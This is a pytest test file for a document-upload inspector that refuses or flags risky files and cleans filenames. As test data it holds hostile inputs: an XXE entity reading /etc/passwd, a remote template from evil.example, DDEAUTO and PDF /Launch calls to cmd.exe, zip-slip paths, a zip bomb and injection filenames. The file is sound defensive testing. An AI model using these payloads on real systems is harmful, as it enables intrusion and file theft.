"""Files are judged by what is in them."""

import subprocess
import sys
import time
from io import BytesIO
from pathlib import Path
from tempfile import TemporaryFile

import pytest

from s11.core import apart
from s11.core.errors import Invalid
from s11.evidence import inspection
from s11.evidence.inspection import clean_name, inspect
from s11.evidence.looking import __main__ as looking
from tests.evidence import corpus

MOST = 1024 * 1024
OPEN_TEXT = "application/vnd.oasis.opendocument.text"
OFFICE = "application/vnd.openxmlformats-officedocument"
BOMB = corpus.altered(corpus.word(), word__document_dot_xml=b"\0" * 50_000_000)
TEMPLATE = corpus.altered(
    corpus.word(),
    word___rels__settings_dot_xml_dot_rels=corpus.rels("attachedTemplate", "https://evil.example/a.dotm"),
)
OWN_TEMPLATE = corpus.altered(
    corpus.word(),
    word___rels__settings_dot_xml_dot_rels=corpus.rels("attachedTemplate", "file:///C:\\Letters\\Board.dotx"),
)
DECLARED = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
OBJECT = corpus.altered(corpus.word(), word__embeddings__oleObject1_dot_bin=b"x")
MANY = corpus.altered(corpus.word(), **{f"word__x{n}": b"" for n in range(2001)})
WIDE = corpus.altered(corpus.word(), word__document_dot_xml=DECLARED.encode("utf-16"))
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le")
MACROS = corpus.altered(corpus.word(), word__vbaProject_dot_bin=b"macro")


def nearby(command: list[str], source: BytesIO, *, patience: float) -> dict[str, object]:
    """The same look without a process of its own, which takes a third of a second to begin."""
    with TemporaryFile() as file:
        file.write(source.read())
        return looking.answer(file, command[-1])


@pytest.fixture
def quickly(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "ask", nearby)


@pytest.mark.usefixtures("quickly")
@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("policy.pdf", b"%PDF-1.7", "application/pdf"),
        ("Policy.DOCX", corpus.word(), f"{OFFICE}.wordprocessingml.document"),
        ("audit.xlsx", corpus.excel(), f"{OFFICE}.spreadsheetml.sheet"),
        ("board.pptx", corpus.slides(), f"{OFFICE}.presentationml.presentation"),
        ("plan.odt", corpus.open_document("<text:p>Plan</text:p>"), OPEN_TEXT),
        ("photo.jpg", corpus.picture(), "image/jpeg"),
        ("photo.png", corpus.picture("PNG"), "image/png"),
        ("photo.gif", corpus.picture("GIF"), "image/gif"),
        ("photo.webp", corpus.picture("WEBP"), "image/webp"),
        ("minutes.eml", corpus.message(), "message/rfc822"),
        ("notes.txt", "Ann’s notes".encode(), "text/plain"),
        ("notes.txt", "Ann’s notes".encode("utf-16"), "text/plain"),
        ("table.csv", b"a,b\n1,2\n", "text/csv"),
        ("own template.docx", OWN_TEMPLATE, f"{OFFICE}.wordprocessingml.document"),
    ],
)  # fmt: skip
def test_what_people_have_is_taken_and_nothing_is_said_to_hide_in_it(
    name: str, content: bytes, media_type: str
) -> None:
    found = inspect(BytesIO(content), name, most=MOST)
    assert (found.media_type, found.size, found.hidden) == (media_type, len(content), ())


REFUSED = [
    ("empty.docx", b"", "is empty"),
    ("large.txt", b"x" * (MOST + 1), "larger than 1 MB"),
    ("setup.pdf", b"MZ\x90\0", "its content is something else"),
    ("notes.txt", b"MZ\x90\0", "its content is something else"),
    ("report.docx", b"%PDF-1.7", "its content is something else"),
    ("report.docx", corpus.zipped({"evil": b"x"}), "its content is something else"),
    ("sheet.docx", corpus.excel(), "its content is something else"),
    ("plan.ods", corpus.open_document("<text:p/>"), "its content is something else"),
    ("page.svg", b"<svg/>", "Open the picture and save a copy as JPEG or PNG, and add that"),
    ("old.doc", b"\xd0\xcf\x11\xe0", "Open it in Word and save it as .docx or as a PDF"),
    ("all.zip", corpus.zipped({"a": b"x"}), "Unpack it and add its files one by one"),
    ("none", b"text", "of a kind we do not take"),
    # macros, controls, objects
    ("innocent.docx", MACROS, "holds macros"),
    ("sheet.xlsx", corpus.altered(corpus.excel(), xl__macrosheets__sheet1_dot_xml="<a/>"), "holds macros"),
    ("plan.odt", corpus.open_document("", Basic__Standard__Module1_dot_xml="<a/>"), "holds macros"),
    ("object.docx", OBJECT, "embedded object"),
    ("control.docx", corpus.altered(corpus.word(), word__activeX__activeX1_dot_xml="<a/>"), "controls"),
    # what fetches
    ("template.docx", TEMPLATE, "fetches a template"),
    ("dde.docx", corpus.with_words("<w:p><w:r><w:instrText> DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>"),
     "fetches something from another programme"),
    # secrets
    ("locked.docx", OLD_WORD, "has a password, or is of an older kind than its name says"),
    ("secret.docx", corpus.secret(corpus.word()), "has a password"),
    ("secret.pdf", corpus.pdf("<< /Type /Catalog >>", "<< /Encrypt 3 0 R >>"), "is protected"),
    # bombs and tricks of archives
    ("bomb.docx", BOMB, "unpacks to far more"),
    ("many.docx", MANY, "unpacks to far more"),
    ("slip.docx", corpus.altered(corpus.word(), **{"word__..__evil": b"x"}), "no office programme packs"),
    ("slip.docx", corpus.altered(corpus.word(), **{"__etc__passwd": b"x"}), "no office programme packs"),
    ("nested.docx", corpus.altered(corpus.word(), word__media__a_dot_zip=corpus.zipped({"a": b"x"})),
     "holds another archive or a programme"),
    ("setup.docx", corpus.altered(corpus.word(), word__media__a_dot_png=b"MZ\x90\0setup"),
     "holds another archive or a programme"),
    ("broken.docx", corpus.word()[:-300], "could not be read"),
    # declarations
    ("xxe.docx", corpus.altered(corpus.word(), word__document_dot_xml=DECLARED), "declarations"),
    ("xxe.xlsx", corpus.altered(corpus.excel(), xl__workbook_dot_xml=DECLARED), "declarations"),
    ("xxe.pptx", corpus.altered(corpus.slides(), ppt__presentation_dot_xml=DECLARED), "declarations"),
    ("xxe.odt", corpus.zipped({"mimetype": OPEN_TEXT, "content.xml": DECLARED}), "declarations"),
    ("xxe.docx", corpus.altered(corpus.word(), word__media__a_dot_svg=DECLARED), "declarations"),
    ("wide.docx", WIDE, "declarations"),
    # pictures
    ("huge.png", corpus.huge_png(), "more than 50 megapixels"),
    ("broken.jpg", b"\xff\xd8\xff\xe0 jfif", "could not be read as a picture"),
    ("page.gif", corpus.picture("GIF") + b"<script>alert(1)</script>", "more than one kind of file"),
    ("archive.png", corpus.picture("PNG") + corpus.zipped({"a": b"x"}), "more than one kind of file"),
    # PDF
    ("page.pdf", b"%PDF-1.7\n<script>alert(1)</script>", "more than one kind of file"),
    ("archive.pdf", corpus.pdf("<< >>", tail=corpus.zipped({"a": b"x"})), "more than one kind of file"),
    ("script.pdf", corpus.pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), "holds a programme"),
    ("script.pdf", corpus.pdf("<< /OpenAction << /S /J#61vaScript >> >>"), "holds a programme"),
    ("launch.pdf", corpus.pdf_packed("<< /S /Launch /F (cmd.exe) >>"), "holds a programme"),
    # messages and text
    ("empty.eml", b"just words\n", "no e-mail message"),
    ("virus.eml", corpus.message(("invoice.exe", b"MZ")), "“invoice.exe” is a programme or an archive"),
    ("macro.eml", corpus.message(("a.docx", MACROS)), "“a.docx” holds macros"),
    ("xxe.eml", corpus.message(("a.docx", corpus.altered(corpus.word(), word__document_dot_xml=DECLARED))),
     "declarations"),
    ("old.msg", OLD_WORD, "no e-mail message"),
    ("page.txt", b"<!doctype html><script>alert(1)</script>", "a web page or code"),
    ("late.csv", b"a,b\n" * 3000 + b"\0\0", "is not the text"),
]  # fmt: skip


@pytest.mark.usefixtures("quickly")
@pytest.mark.parametrize(("name", "content", "words"), REFUSED, ids=[f"{n} {w}" for n, _, w in REFUSED])
def test_what_cannot_be_kept_is_refused_with_what_to_do(name: str, content: bytes, words: str) -> None:
    with pytest.raises(Invalid) as refusal:
        inspect(BytesIO(content), name, most=MOST)
    assert words in refusal.value.sentence and f"“{name}”" in refusal.value.sentence


HIDING = [
    (
        "audit.xlsx",
        corpus.hiding_workbook(),
        (
            "Sheet “Summary”: 3 hidden rows",
            "Sheet “Summary”: hidden column C",
            "Sheet “Summary”: 1 comment or note",
            "Hidden sheet: “Staff list”",
            "Very hidden sheet, which Excel itself does not list: “Payroll”",
        ),
    ),
    ("policy.docx", corpus.tracked(), ("Tracked changes: 2 insertions and 1 deletion by 2 people",)),
    (
        "policy.docx",
        corpus.altered(
            corpus.word(),
            word__comments_dot_xml=f"<w:comments {corpus.W}><w:comment/><w:comment/></w:comments>",
        ),
        ("2 comments",),
    ),
    (
        "policy.docx",
        corpus.with_words("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>not for you</w:t></w:r></w:p>"),
        ("Hidden text in 1 place",),
    ),
    (
        "chart.docx",
        corpus.altered(corpus.word(), word__embeddings__Figures_dot_xlsx=corpus.excel()),
        ("1 embedded file, with everything in it: Figures.xlsx",),
    ),
    (
        "web.docx",
        corpus.altered(
            corpus.word(),
            word___rels__header1_dot_xml_dot_rels=corpus.rels("image", "https://a.example/1.png"),
        ),
        ("1 picture fetched from the web whenever somebody opens it",),
    ),
    ("day.pptx", corpus.hiding_slides(), ("1 hidden slide", "Speaker’s notes on 1 slide")),
    (
        "plan.ods",
        corpus.open_document(
            '<style:style style:name="t1"><style:table-properties table:display="false"/></style:style>'
            '<table:table table:name="Staff" table:style-name="t1">'
            '<table:table-row table:visibility="collapse">'
            "<table:table-cell><text:p>Ann</text:p></table:table-cell></table:table-row></table:table>"
            "<office:annotation/>",
            "spreadsheet",
        ),
        ("Hidden sheet: “Staff”", "Sheet “Staff”: 1 hidden row", "1 comment"),
    ),
    ("photo.jpg", corpus.picture(gps=True), ("The place where the picture was taken",)),
    (
        "policy.pdf",
        corpus.pdf("<< /Type /Annot /Subtype /Highlight >>", "<< /Type /EmbeddedFile >>"),
        ("1 comment or mark", "1 attached file"),
    ),
    (
        "minutes.eml",
        corpus.message(("plan.docx", corpus.tracked())),
        (
            "1 attachment to the message: plan.docx",
            "In “plan.docx”: tracked changes: 2 insertions and 1 deletion by 2 people",
        ),
    ),
]


@pytest.mark.usefixtures("quickly")
@pytest.mark.parametrize(("name", "content", "hidden"), HIDING, ids=[n for n, _, _ in HIDING])
def test_what_hides_in_a_file_is_named(name: str, content: bytes, hidden: tuple[str, ...]) -> None:
    assert inspect(BytesIO(content), name, most=MOST).hidden == hidden


def test_all_this_is_done_by_a_process_of_its_own() -> None:
    assert inspect(BytesIO(corpus.tracked()), "policy.docx", most=MOST).hidden == (
        "Tracked changes: 2 insertions and 1 deletion by 2 people",
    )
    assert inspect(BytesIO(corpus.picture(gps=True)), "photo.jpg", most=MOST).hidden
    with pytest.raises(Invalid, match="holds macros"):
        inspect(BytesIO(MACROS), "innocent.docx", most=MOST)


def test_a_look_that_takes_too_long_or_too_much_ends_in_a_sentence(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Whatever a file does to whoever looks: it is stopped, and nothing of it reaches us."""
    for deed in ("import time; time.sleep(60)", "x = bytes(10**10)", "print('no answer')", "1/0"):
        monkeypatch.setattr(inspection, "LOOKING", ["-c", f"import resource; {deed}"])
        monkeypatch.setattr(inspection, "PATIENCE_SECONDS", 1)
        began = time.monotonic()
        with pytest.raises(Invalid, match=r"“notes\.txt” could not be looked through"):
            inspect(BytesIO(b"words"), "notes.txt", most=MOST)
        assert time.monotonic() - began < 10


def test_whoever_looks_has_little_memory_and_cannot_write_or_reach_out(tmp_path: Path) -> None:
    """The process gives its powers away before it reads anything."""
    tried = (
        "import sys; sys.argv = ['x', '.txt']\n"
        f"sys.path.insert(0, {str(Path(inspection.__file__).parent)!r})\n"
        "import looking.__main__ as m, resource, socket\n"
        "m.restrain()\n"
        "assert resource.getrlimit(resource.RLIMIT_AS)[0] == 512 * 2**20\n"
        "assert resource.getrlimit(resource.RLIMIT_CPU)[0] == 20\n"
        "for deed in (lambda: bytearray(600 * 2**20), lambda: socket.create_connection(('127.0.0.1', 9)),\n"
        f"             lambda: open({str(tmp_path / 'written')!r}, 'w').write('x' * 10_000)):\n"
        "    try:\n"
        "        deed()\n"
        "    except (MemoryError, RuntimeError, OSError):\n"
        "        continue\n"
        "    raise SystemExit('it could')\n"
    )
    done = subprocess.run([sys.executable, "-I", "-c", tried], capture_output=True, text=True)
    assert done.returncode in (0, -25), done.stderr  # 25: stopped for trying to write
    assert not (tmp_path / "written").exists() or not (tmp_path / "written").stat().st_size


def test_a_file_on_the_disk_is_handed_over_without_passing_through_our_memory(tmp_path: Path) -> None:
    place = tmp_path / "large"
    place.write_bytes(b"x" * 5_000_000)
    with place.open("rb") as source:
        source.read(100)
        count = "import sys; print(len(sys.stdin.buffer.read()))"
        assert apart.ask(["-c", count], source, patience=20) == 5_000_000
        assert source.read() == b"x" * 5_000_000  # and is still ours to read from its beginning


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\Ann\\policy.pdf", "policy.pdf"),
        ("a\r\nSet-Cookie: b.pdf", "aSet-Cookie b.pdf"),
        ("<img onerror=x>.png", "img onerror=x.png"),
        ("evil\u202efdp.exe", "evilfdp.exe"),
        ("Cafe\u0301.pdf", "Café.pdf"),
        ("", "file"),
    ],
)
def test_names_are_shown_clean(given: str, kept: str) -> None:
    assert clean_name(given) == kept


def test_a_very_long_name_keeps_its_ending() -> None:
    assert clean_name("x" * 4000 + ".pdf") == "x" * 140 + ".pdf"
